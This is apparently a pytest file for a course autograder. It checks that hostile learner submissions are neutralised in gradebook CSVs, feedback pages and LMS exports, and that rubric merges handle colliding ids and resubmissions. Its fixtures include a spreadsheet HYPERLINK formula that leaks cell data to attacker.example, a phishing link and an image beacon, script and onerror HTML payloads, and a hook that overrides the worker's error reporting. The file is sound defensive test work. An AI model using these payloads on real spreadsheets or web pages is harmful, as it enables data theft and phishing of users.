"""Hostile submissions against the files the grader writes (issue 12, items 4, 5, 6, 8, 9).

Each test grades a small class that holds a real hostile (or simply unlucky)
submission, then reads the outputs as the instructor and the learner would:
spreadsheet formulas, live Markdown in feedback pages, learner ids that collide or
lose their letters, a late submission meeting rubric scores given earlier, and an
answer key changed between two runs into the same folder. The last test does what an
instructor does for one chapter: grade, fill the rubric sheet in a spreadsheet
program, merge it, and send the feedback pages and LMS files.
"""
from __future__ import annotations

import csv
import html as html_lib
import io
import os
import shutil
import subprocess
import sys
import unicodedata
from fractions import Fraction
from pathlib import Path

import pytest

from course.grading.batch import grade_batch
from course.grading.outputs import merge_manual, write_outputs
from course.grading.runner import load_chapters
from course.grading.sandbox import Sandbox
from course.paths import Layout

ROOT = Path(__file__).resolve().parents[1]
SLUG = "ch07_export_controls"
ALL = load_chapters(ROOT)
CHAPTERS = {SLUG: ALL[SLUG]}
STUB = (ROOT / "exercises" / f"{SLUG}.py").read_text(encoding="utf-8")
SOLUTION = (ROOT / "solutions" / f"{SLUG}.py").read_text(encoding="utf-8")
POINTS = {item.id: item.points for item in ALL[SLUG].spec.items}
FULL = Fraction(ALL[SLUG].spec.auto_points)
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open your grade")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def course(*args: str, timeout: float = 600) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "course.cli", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=timeout, env={**os.environ, "COURSE_ROOT": str(ROOT)})


def submit(folder: Path, name: str, text: str, slug: str = SLUG) -> Path:
    (folder / name).mkdir(parents=True, exist_ok=True)
    (folder / name / f"{slug}.py").write_text(text, encoding="utf-8")
    return folder / name


def grade(submissions: Path, out: Path, chapters=None):
    chapters = chapters or CHAPTERS
    result = grade_batch(submissions, out, chapters, jobs=2, sandbox=Sandbox())
    write_outputs(out, result.records, chapters)
    return result


def csv_rows(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))


def gradebook(out: Path) -> list[dict]:
    return list(csv.DictReader(io.StringIO((out / "gradebook.csv").read_text(encoding="utf-8"), newline="")))


def every_csv_cell(out: Path):
    for path in sorted(out.glob("*.csv")):
        for row in csv_rows(path):
            for cell in row:
                yield path.name, cell


# ---------------------------------------------------------------- item 4: formulas


# The learner's code rewrites the worker's error reporting (learner code runs in the
# worker, so it can), so that every check comes back as a "syntax error" whose message
# is a formula: the gradebook's reason column is built from that message.
FORMULA_REASON = f'''
import sys
_main = sys.modules.get("__main__")
def _describe(exc, filename):
    return {{"kind": "syntax", "message": {FORMULA!r}, "line": None}}
def _boom(*args, **kwargs):
    raise RuntimeError("no")
if _main is not None and hasattr(_main, "describe"):
    _main.describe = _describe
    _main.to_plain = _boom
'''


def test_formulas_in_answers_reasons_and_names_never_reach_a_cell_start(tmp_path):
    submit(tmp_path / "class", "formula_answer", STUB + f"\nBRIEF_7_10 = {FORMULA!r}\n")
    submit(tmp_path / "class", "formula_reason", STUB + FORMULA_REASON)
    submit(tmp_path / "class", "@SUM(1+1)", STUB)
    submit(tmp_path / "class", "-2+3", STUB)
    out = tmp_path / "out"
    grade(tmp_path / "class", out)
    cells = list(every_csv_cell(out))
    armed = [(name, cell[:60]) for name, cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not armed, f"cells a spreadsheet would run: {armed}"
    # The text is kept, as text: the rubric grader still reads the answer.
    assert any(cell == "'" + FORMULA for name, cell in cells if name == "manual-grading.csv")
    reasons = [row["reason"] for row in gradebook(out)]
    assert any("HYPERLINK" in reason for reason in reasons), reasons


# ---------------------------------------------------------------- item 4: feedback pages

LIVE_MARKDOWN = ("x\n\n# Final grade: 100 / 100\n\n![pixel](http://attacker.example/p.png) "
                 "[claim your certificate](http://attacker.example/login) <img src=x onerror=alert(1)> "
                 "<script>alert(2)</script> \x1b[2J\x1b[31mred")


def test_learner_text_in_feedback_pages_stays_text(tmp_path):
    code = STUB + f'''
def prc_licence_required(case):
    raise ValueError({LIVE_MARKDOWN!r})
Q7_1 = {LIVE_MARKDOWN!r}
'''
    folder = submit(tmp_path / "class", "markdown", code)
    # A second way in: a file name (names may hold newlines) that intake lists as not used.
    (folder / ".notes\n\n# Final grade: 100 of 100\n\n<img src=x onerror=alert(3)> ![p](http:x)").write_text("x")
    out = tmp_path / "out"
    grade(tmp_path / "class", out)
    page = (out / "feedback" / "markdown.md").read_text(encoding="utf-8")
    html = (out / "feedback" / "markdown.html").read_text(encoding="utf-8")
    assert "Final grade" in page, "the learner's message is no longer shown: this test proves nothing"
    headings = [line for line in page.splitlines() if line.lstrip().startswith("#")]
    assert all("Final grade" not in line for line in headings), headings
    assert "](http" not in page.replace("\\](http", ""), "a live link or image in the .md"
    assert "\x1b" not in page and "\x1b" not in html, "terminal escape sequences in the feedback"
    assert "<img" not in html and "<script" not in html and "<a " not in html, "live HTML in the .html"
    assert "<h1>Final grade" not in html and "Final grade: 100 / 100</h" not in html
    assert "claim your certificate" in html   # shown, as text


def test_a_lone_surrogate_in_a_message_breaks_no_output(tmp_path):
    submit(tmp_path / "class", "surrogate", STUB + '''
def prc_licence_required(case):
    raise ValueError("broken \\ud800 text")
BRIEF_7_10 = "\\udfff memo"
''')
    submit(tmp_path / "class", "honest", SOLUTION)
    out = tmp_path / "out"
    grade(tmp_path / "class", out)
    rows = {r["learner_id"]: r for r in gradebook(out)}
    assert Fraction(rows["honest"]["auto points"]) == FULL
    page = (out / "feedback" / "surrogate.md").read_text(encoding="utf-8")
    assert "broken" in page and "\ud800" not in page
    grade(tmp_path / "class", out)   # and on every rerun


# ---------------------------------------------------------------- item 5: ids


def test_colliding_names_each_keep_their_own_submission(tmp_path):
    wrong_first = SOLUTION + '\nQ7_1 = "a"\n'
    expected = {"bob": FULL, "bob-2": Fraction(0), "bob.zip": Fraction(POINTS["7.1"]),
                "Bob": FULL - POINTS["7.1"]}
    submissions = tmp_path / "class"
    submit(submissions, "bob", SOLUTION)
    out = tmp_path / "out"
    grade(submissions, out)   # bob alone first: the others arrive later, into the same --out
    submit(submissions, "bob-2", STUB)
    submit(submissions, "Bob", wrong_first)
    import zipfile
    with zipfile.ZipFile(submissions / "bob.zip", "w") as archive:
        archive.writestr(f"bob/{SLUG}.py", STUB + '\nQ7_1 = "d"\n')
    grade(submissions, out)
    rows = gradebook(out)
    assert len(rows) == 4, [r["learner_id"] for r in rows]
    ids = [r["learner_id"] for r in rows]
    assert len({i.casefold() for i in ids}) == 4, ids
    got = {r["submitted as"]: Fraction(r["auto points"]) for r in rows}
    assert got == expected
    assert {p.stem for p in (out / "records").glob("*.json")} == set(ids)
    # The same class graded again gives the same ids: they come from the names, not the order.
    again = tmp_path / "again"
    grade(submissions, again)
    assert [r["learner_id"] for r in gradebook(again)] == ids


def test_non_latin_names_keep_their_letters(tmp_path):
    names = ["Айбек Асанов", "Асель Бекова", unicodedata.normalize("NFD", "José García"), "陈静"]
    for name in names:
        submit(tmp_path / "class", name, STUB)
    out = tmp_path / "out"
    grade(tmp_path / "class", out)
    ids = sorted(r["learner_id"] for r in gradebook(out))
    assert ids == sorted(["Айбек Асанов", "Асель Бекова", "José García", "陈静"]), ids
    assert all(unicodedata.is_normalized("NFC", i) for i in ids)
    assert (out / "feedback" / "Айбек Асанов.html").is_file()


# ---------------------------------------------------------------- item 5: late submissions


def fill_sheet(sheet: Path, learner: str, score: str, target: Path) -> None:
    """Give `learner` `score` on every rubric criterion of the sheet (long or wide format)."""
    rows = csv_rows(sheet)
    start = next(n for n, row in enumerate(rows) if "learner_id" in row)
    header = rows[start]
    for row in rows[start + 1:]:
        if row and row[header.index("learner_id")] == learner:
            if "score" in header:
                row[header.index("score")] = score
            else:
                for n, name in enumerate(header):
                    if "(0-" in name:
                        row[n] = score
    with open(target, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)


def test_a_late_submission_never_inherits_or_moves_rubric_scores(tmp_path):
    submissions = tmp_path / "class"
    submissions.mkdir()
    import zipfile
    with zipfile.ZipFile(submissions / "bob.zip", "w") as archive:
        archive.writestr(f"{SLUG}.py", SOLUTION)
    out = tmp_path / "out"
    first = grade(submissions, out)
    fill_sheet(out / "manual-grading.csv", "bob", "2", tmp_path / "filled.csv")
    merge_manual(tmp_path / "filled.csv", out, first.records, CHAPTERS)
    write_outputs(out, first.records, CHAPTERS)
    assert Fraction(gradebook(out)[0]["manual points"]) == 8
    # A second learner, also called bob, hands in a folder late.
    submit(submissions, "bob", STUB)
    second = grade(submissions, out)
    rows = {r["learner_id"]: r for r in gradebook(out)}   # the folder "bob" is learner "bob"
    assert Fraction(rows["bob"]["manual points"]) == 0, "bob's late folder inherited the rubric scores of bob.zip"
    by_source = {r["submitted as"]: r for r in gradebook(out)}
    assert Fraction(by_source["bob.zip"]["manual points"]) == 8, "bob.zip lost its rubric scores"
    # bob.zip's record under its old id is gone, so no later command counts that work twice.
    assert sorted(p.stem for p in (out / "records").glob("*.json")) == sorted(by_source[s]["learner_id"]
                                                                               for s in by_source)
    before = (out / "gradebook.csv").read_text(encoding="utf-8")
    with pytest.raises(Exception) as refused:
        merge_manual(tmp_path / "filled.csv", out, second.records, CHAPTERS)
    assert "submission changed" in str(getattr(refused.value, "problems", "")) + str(refused.value)
    assert (out / "gradebook.csv").read_text(encoding="utf-8") == before


def test_merging_an_old_sheet_after_a_resubmission_is_refused_by_the_command(tmp_path):
    submissions = tmp_path / "class"
    submit(submissions, "amy", SOLUTION, slug="ch17_research_a_country")
    out = tmp_path / "out"
    assert course("grade", str(submissions), "--out", str(out), "--chapters", "17", "-q").returncode == 0
    fill_sheet(out / "manual-grading.csv", "amy", "3", tmp_path / "filled.csv")
    merged = course("grade", str(submissions), "--out", str(out), "--merge-manual", str(tmp_path / "filled.csv"))
    assert merged.returncode == 0, merged.stderr
    assert Fraction(gradebook(out)[0]["manual points"]) == 15
    submit(submissions, "amy", (ROOT / "exercises" / "ch17_research_a_country.py").read_text(encoding="utf-8"),
           slug="ch17_research_a_country")
    regraded = course("grade", str(submissions), "--out", str(out), "--chapters", "17", "-q")
    assert regraded.returncode == 0, regraded.stderr
    assert "rubric scores of amy were given to an earlier submission" in regraded.stderr
    assert Fraction(gradebook(out)[0]["manual points"]) == 0, "scores of the old memo counted for the new one"
    before = (out / "gradebook.csv").read_text(encoding="utf-8")
    refused = course("grade", str(submissions), "--out", str(out), "--merge-manual", str(tmp_path / "filled.csv"))
    assert refused.returncode != 0 and "Traceback" not in refused.stderr
    assert "amy's submission changed" in refused.stderr and "nothing was merged" in refused.stderr
    assert (out / "gradebook.csv").read_text(encoding="utf-8") == before


# ---------------------------------------------------------------- item 6: the key changes


def test_changing_the_answer_key_regrades_into_the_same_out(tmp_path):
    course_copy = tmp_path / "course"
    Layout(course_copy).specs.mkdir(parents=True)
    spec = Layout(ROOT).spec(SLUG).read_text(encoding="utf-8")
    Layout(course_copy).spec(SLUG).write_text(spec, encoding="utf-8")
    submit(tmp_path / "class", "ana", SOLUTION)
    out = tmp_path / "out"
    first = grade(tmp_path / "class", out, load_chapters(course_copy))
    assert Fraction(gradebook(out)[0]["auto points"]) == FULL
    again = grade(tmp_path / "class", out, load_chapters(course_copy))
    assert again.reused == 1 and again.graded_now == 0, "nothing changed, so nothing is graded twice"
    # The instructor corrects the key of 7.1 (only the answer changes: same request, same points).
    changed = spec.replace('answer="d", wrong=["a", "c"]', 'answer="b", wrong=["a", "c"]')
    assert changed != spec
    Layout(course_copy).spec(SLUG).write_text(changed, encoding="utf-8")
    regraded = grade(tmp_path / "class", out, load_chapters(course_copy))
    assert regraded.graded_now == 1, "the old grade was kept although the key changed"
    assert Fraction(gradebook(out)[0]["auto points"]) == FULL - POINTS["7.1"]
    assert first.records and regraded.records


# ---------------------------------------------------------------- items 8 and 9: one chapter, the rubric loop

CH17 = "ch17_research_a_country"


def spreadsheet_save(rows: list[list[str]], path: Path) -> None:
    """Save as a spreadsheet program set to a comma-decimal locale does: BOM, ; separators, CRLF."""
    buffer = io.StringIO()
    csv.writer(buffer, delimiter=";", lineterminator="\r\n", quoting=csv.QUOTE_MINIMAL).writerows(rows)
    path.write_bytes(b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8"))


def test_grade_one_chapter_fill_the_rubric_in_a_spreadsheet_merge_and_send_feedback(tmp_path):
    submissions = tmp_path / "class"
    submit(submissions, "Айбек Асанов", (ROOT / "solutions" / f"{CH17}.py").read_text(encoding="utf-8"), slug=CH17)
    submit(submissions, "00123", (ROOT / "exercises" / f"{CH17}.py").read_text(encoding="utf-8"), slug=CH17)
    out = tmp_path / "out"
    done = course("grade", str(submissions), "--out", str(out), "--chapters", "17", "-q")
    assert done.returncode == 0, done.stderr
    # --chapters 17: only chapter 17 in the columns, the points and the LMS files.
    rows = gradebook(out)
    header = list(rows[0])
    assert [h for h in header if h.endswith(" total")] == ["ch17 total"]
    assert not [h for h in header if h.startswith(("7.", "12.", "1."))]
    assert all("not found" not in r["reason"] for r in rows), [r["reason"] for r in rows]
    auto_possible = ALL[CH17].spec.auto_points
    criteria = [c for item in ALL[CH17].spec.items if item.kind == "written" for c in item.rubric]
    manual_possible = sum(c.points for c in criteria)
    assert rows[0]["auto possible"] == str(auto_possible)
    canvas = csv_rows(out / "canvas.csv")
    assert canvas[0][-1].endswith(f"({auto_possible + manual_possible} points)"), canvas[0]

    # The rubric sheet: one row per learner and criterion, the memo and the 17.7 assessment beside it.
    sheet = csv_rows(out / "manual-grading.csv")
    assert "clear" in sheet[0][0] and "blank" in sheet[0][0], "the sheet says how to fill it in"
    columns = sheet[1]
    for name in ("learner_id", "item", "criterion", "levels", "max", "score", "comment", "answer", "read with it"):
        assert name in columns, name
    col = {name: n for n, name in enumerate(columns)}
    learner = "Айбек Асанов"
    mine = [row for row in sheet[2:] if row[col["learner_id"]] == learner]
    assert [row[col["criterion"]] for row in mine] == [c.key for c in criteria]
    assert "Summary" in mine[0][col["answer"]] and '"snapshot"' in mine[0][col["read with it"]]
    assert "full:" in mine[0][col["levels"]]

    # Filled in as a spreadsheet program would: 2,5 with a decimal comma, one cell left blank,
    # one comment that a hostile hand started with a formula.
    scores = ["4", "2,5", "", "3", "4"]
    for row, score in zip(mine, scores):
        row[col["score"]] = score
    mine[0][col["comment"]] = "Every number matches your file."
    mine[1][col["comment"]] = FORMULA
    # What spreadsheet programs do to cells that look like numbers: 00123 loses its zeros.
    for row in sheet[2:]:
        if row[col["learner_id"]] == "00123":
            row[col["learner_id"]] = "123"
    assert all(not row[col["item"]].replace(".", "").isdigit() for row in sheet[2:]), "7.10 would become 7.1"
    assert all(not row[col["submission"]].isdigit() for row in sheet[2:])
    spreadsheet_save(sheet, tmp_path / "filled.csv")
    merged = course("grade", str(submissions), "--out", str(out), "--merge-manual", str(tmp_path / "filled.csv"))
    assert merged.returncode == 0, merged.stderr
    # 00123 was not graded at all (5 blank cells) and Айбек has one blank cell: reported, not counted as 0.
    assert "6 score cells are blank" in merged.stderr, merged.stderr
    rubric_total = Fraction(4) + Fraction(5, 2) + 3 + 4

    rows = {r["learner_id"]: r for r in gradebook(out)}
    assert Fraction(rows[learner]["manual points"]) == rubric_total
    assert rows[learner]["manual graded"] == f"4 of {len(criteria)}"
    final = Fraction(rows[learner]["auto points"]) + rubric_total
    assert Fraction(rows[learner]["final points"]) == final
    page = (out / "feedback" / f"{learner}.md").read_text(encoding="utf-8")
    html = (out / "feedback" / f"{learner}.html").read_text(encoding="utf-8")
    assert "Every number matches your file" in page and "Every number matches your file" in html
    assert "2.5 / 4" in page and "not graded yet" in page and "Rubric points" in html
    assert "HYPERLINK" in html and "<a " not in html
    canvas = {row[0]: row for row in csv_rows(out / "canvas.csv")}
    assert Fraction(canvas[learner][-1]) == final
    moodle = {row[0]: row for row in csv_rows(out / "moodle.csv")}
    assert Fraction(moodle[learner][1]) == final
    assert "Every number matches your file" in moodle[learner][2] and "HYPERLINK" in moodle[learner][2]
    assert not [cell for _, cell in every_csv_cell(out) if cell.startswith(FORMULA_STARTS)]

    # The same sheet with a score cleared: the score goes, the rest stays.
    mine[3][col["score"]] = "clear"
    spreadsheet_save(sheet, tmp_path / "cleared.csv")
    assert course("grade", str(submissions), "--out", str(out), "--merge-manual",
                  str(tmp_path / "cleared.csv")).returncode == 0
    assert Fraction({r["learner_id"]: r for r in gradebook(out)}[learner]["manual points"]) == rubric_total - 3


def test_a_bad_sheet_reports_every_problem_at_once_and_changes_nothing(tmp_path):
    submissions = tmp_path / "class"
    submit(submissions, "amy", SOLUTION)
    submit(submissions, "ben", STUB)
    out = tmp_path / "out"
    assert course("grade", str(submissions), "--out", str(out), "--chapters", "7", "-q").returncode == 0
    sheet = csv_rows(out / "manual-grading.csv")
    col = {name: n for n, name in enumerate(sheet[1])}
    sheet[2][col["score"]] = "9"          # above the maximum
    sheet[3][col["score"]] = "good"       # not a number
    sheet[4][col["learner_id"]] = "nobody"
    sheet[5][col["score"]] = "1,5"        # fine
    spreadsheet_save(sheet, tmp_path / "bad.csv")
    before = {p.name: p.read_bytes() for p in out.glob("*.csv")}
    refused = course("grade", str(submissions), "--out", str(out), "--merge-manual", str(tmp_path / "bad.csv"))
    assert refused.returncode != 0 and "Traceback" not in refused.stderr
    lines = refused.stderr.splitlines()
    assert any("outside 0-2" in l for l in lines) and any("'good' is not a number" in l for l in lines)
    assert any("unknown learner 'nobody'" in l for l in lines) and "3 problems" in refused.stderr
    assert {p.name: p.read_bytes() for p in out.glob("*.csv")} == before


def test_unknown_chapter_is_one_clear_line(tmp_path):
    submit(tmp_path / "class", "amy", STUB)
    done = course("grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--chapters", "7,99")
    assert done.returncode != 0 and "Traceback" not in done.stderr
    lines = [l for l in done.stderr.splitlines() if l.strip()]
    assert len(lines) == 1 and "no chapter '99'" in lines[0], done.stderr


def test_old_records_are_read_and_broken_ones_refused_with_one_line(tmp_path):
    from course.grading.record import LearnerRecord, RecordError

    old = ('{"version": 1, "learner": "amy", "status": "graded", "reason": "", "ignored": [], "notes": [], '
           '"items": {"7.1": {"awarded": "2", "possible": "2"}}, "chapters": {"ch07": {"awarded": "2", '
           '"possible": "31"}}, "feedback": [{"chapter": "ch07", "item": "7.1", "awarded": "2", "possible": "2", '
           '"message": ""}], "written": {"7.10": "text"}, "submission": "abc", "spec": "def", '
           '"total": "2", "possible": "31"}')
    (tmp_path / "amy.json").write_text(old, encoding="utf-8")
    record = LearnerRecord.read(tmp_path / "amy.json")
    assert record.total == 2 and record.written == {"7.10": "text"} and record.items[0].item == "7.1"
    assert LearnerRecord.from_json(record.to_json()) == record
    (tmp_path / "bad.json").write_text('{"version": 99}', encoding="utf-8")
    with pytest.raises(RecordError, match="bad.json"):
        LearnerRecord.read(tmp_path / "bad.json")
    out = tmp_path / "out"
    (out / "records").mkdir(parents=True)
    shutil.copy(tmp_path / "bad.json", out / "records" / "bad.json")
    done = course("grade", str(tmp_path), "--out", str(out), "--merge-manual", str(tmp_path / "amy.json"))
    assert done.returncode != 0 and "bad.json" in done.stderr and "Traceback" not in done.stderr
    # Rubric scores stored by the first version (keyed by a learner id that could move) are refused.
    (out / "records" / "bad.json").unlink()
    shutil.copy(tmp_path / "amy.json", out / "records" / "amy.json")
    (out / "manual-scores.json").write_text('{"amy": {"7.10 accuracy": "2"}}', encoding="utf-8")
    done = course("grade", str(tmp_path), "--out", str(out), "--merge-manual", str(tmp_path / "amy.json"))
    lines = [l for l in done.stderr.splitlines() if l.strip()]
    assert done.returncode != 0 and len(lines) == 1 and "older format" in lines[0], done.stderr


def test_rubric_scores_stay_when_other_chapters_are_graded_or_resubmitted(tmp_path):
    submissions = tmp_path / "class"
    submit(submissions, "amy", (ROOT / "solutions" / f"{CH17}.py").read_text(encoding="utf-8"), slug=CH17)
    submit(submissions, "amy", STUB)
    out = tmp_path / "out"
    assert course("grade", str(submissions), "--out", str(out), "--chapters", "17", "-q").returncode == 0
    fill_sheet(out / "manual-grading.csv", "amy", "4", tmp_path / "filled.csv")
    assert course("grade", str(submissions), "--out", str(out), "--merge-manual",
                  str(tmp_path / "filled.csv")).returncode == 0
    # Chapter 7 graded too, and then amy's chapter 7 file changes: her chapter 17 memo did not.
    submit(submissions, "amy", SOLUTION)
    for chapters in ("7,17", "17,7"):
        done = course("grade", str(submissions), "--out", str(out), "--chapters", chapters, "-q")
        assert done.returncode == 0 and "earlier submission" not in done.stderr, done.stderr
        row = gradebook(out)[0]
        assert Fraction(row["manual points"]) == 20 and "ch07 total" in row


@pytest.mark.parametrize("text", ["# heading", "1. list", "- item", "> quote", "=== rule", "![i](http://a/b.png)",
                                  "[l](javascript:alert(1))", "<b>x</b>", "**bold** _em_ `code`", "a\n\n## b",
                                  "&lt;script&gt;", "| a | b |", "x\\", "\x1b[31mred\x1b[0m"])
def test_md_inline_renders_as_the_literal_text(text):
    from markdown_it import MarkdownIt

    from course.grading.learner_text import clean, md_inline

    rendered = MarkdownIt("commonmark", {"html": False}).render("Hint: " + md_inline(text))
    shown = html_lib.unescape(rendered.removeprefix("<p>").removesuffix("</p>\n"))
    assert shown == "Hint: " + " ".join(clean(text).split()), rendered
    alone = MarkdownIt("commonmark", {"html": False}).render(md_inline(text))
    assert alone.startswith("<p>") and "<a " not in alone and "<img" not in alone, alone


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", '=HYPERLINK("x")'])
def test_every_formula_start_is_neutralised(cell):
    from course.grading.files import csv_text

    written = next(csv.reader(io.StringIO(csv_text([[cell]]))))[0]
    assert written.startswith("'") and not written.startswith(FORMULA_STARTS)
